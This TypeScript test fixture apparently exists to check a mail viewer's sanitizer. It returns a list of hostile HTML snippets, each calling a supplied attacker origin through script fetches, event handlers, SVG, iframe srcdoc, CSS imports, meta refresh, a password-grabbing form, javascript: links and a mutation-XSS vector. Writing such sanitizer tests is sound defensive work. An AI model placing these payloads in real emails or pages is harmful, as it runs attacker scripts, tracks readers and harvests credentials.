/** HTML that attacks whoever looks at a mail: scripts, handlers, SVG, srcdoc, styles, refresh, forms, frames. For tests. */

/** `origin`: of the attacker's server, as `http://host:port`. */
export function attacksOf(origin: string): readonly string[] {
  return [
    `<script>fetch("${origin}/fetch")</script>`,
    `<img src=x onerror="new Image().src='${origin}/onerror'">`,
    `<img src="${origin}/pixel.png">`,
    `<svg onload="fetch('${origin}/svg')"><script>fetch("${origin}/svg-script")</script><image href="${origin}/svg.png"/></svg>`,
    `<iframe srcdoc="<script>fetch('${origin}/srcdoc')</script><img src=${origin}/srcdoc.png>"></iframe>`,
    `<iframe src="${origin}/frame"></iframe>`,
    `<style>@import "${origin}/import.css"; @font-face { font-family: f; src: url(${origin}/font.woff2) } p { font-family: f }</style>`,
    `<div style="background:url(${origin}/background.png)">.</div>`,
    `<link rel=stylesheet href="${origin}/sheet.css"><link rel=preload as=image href="${origin}/preload.png">`,
    `<meta http-equiv=refresh content="0;url=${origin}/refresh">`,
    `<object data="${origin}/object"></object><embed src="${origin}/embed">`,
    `<form action="${origin}/form"><input name=password autofocus onfocus="fetch('${origin}/focus')"><button>Go on</button></form>`,
    `<base href="${origin}/base/"><img src="relative.png"><a href=x ping="${origin}/ping">A link</a>`,
    `<video src="${origin}/video" autoplay></video><audio src="${origin}/audio" autoplay></audio>`,
    `<a href="javascript:fetch('${origin}/javascript')">A script</a>`,
    `<math><mtext><style><img src="${origin}/mutation.png" onerror="fetch('${origin}/mutation')"></style></mtext></math>`,
  ];
}
